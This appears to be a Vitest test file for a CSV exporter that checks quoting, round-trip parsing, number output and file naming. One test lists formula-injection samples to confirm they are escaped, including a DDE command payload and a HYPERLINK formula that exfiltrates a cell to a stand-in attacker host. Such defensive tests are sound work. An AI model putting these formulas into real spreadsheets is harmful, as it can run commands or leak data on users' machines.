import { expect, it } from 'vitest';
import Papa from 'papaparse';
import { csvFileName, toCsv, type TableData } from './tableData.ts';

const table: TableData = {
  columns: [
    { key: 'actor', label: 'Actor' },
    { key: 'members', label: 'Members', numeric: true },
    { key: 'note', label: 'Note' },
  ],
  rows: [
    { actor: 'Brazil', members: 1, note: 'Pledged, "then" reversed, 2021' },
    { actor: '=HYPERLINK("x")', members: null, note: null },
  ],
};

it('writes a header of labels and one line per row, quoting where needed', () => {
  const lines = toCsv(table).split('\r\n');
  expect(lines[0]).toBe('Actor,Members,Note');
  expect(lines[1]).toBe('Brazil,1,"Pledged, ""then"" reversed, 2021"');
  expect(lines).toHaveLength(3);
});

it('reads back as the same cells, with missing values empty', () => {
  const parsed = Papa.parse<string[]>(toCsv(table), { skipEmptyLines: true }).data;
  expect(parsed[1]).toEqual(['Brazil', '1', 'Pledged, "then" reversed, 2021']);
  expect(parsed[2]?.[1]).toBe('');
});

it('escapes a cell a spreadsheet would run as a formula', () => {
  const parsed = Papa.parse<string[]>(toCsv(table), { skipEmptyLines: true }).data;
  expect(parsed[2]?.[0]).toBe(`'=HYPERLINK("x")`);
});

it('neutralises and quotes every formula in outside text, multi-line and fullwidth ones too', () => {
  const formulas = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    '=1+1\nsecond line',
    '\uFF1D1+1',
    '+1',
    '-1+2',
    '@SUM(A1)',
    '\t=1',
  ];
  const csv = toCsv({
    columns: [{ key: 'name', label: 'Name' }],
    rows: formulas.map((name) => ({ name })),
  });
  for (const formula of formulas) expect(csv).toContain(`"'${formula.replaceAll('"', '""')}"`);
});

it('writes numbers as numbers: a negative change is data, not a formula', () => {
  const csv = toCsv({
    columns: [{ key: 'change', label: 'Change', numeric: true }],
    rows: [{ change: -3 }, { change: -0.5 }],
  });
  expect(csv.split('\r\n')).toEqual(['Change', '-3', '-0.5']);
});

it('names files by slugging their parts', () => {
  expect(csvFileName('Trends', 'Share of world GDP', '2020-11-10')).toBe(
    'trends-share-of-world-gdp-2020-11-10.csv',
  );
});
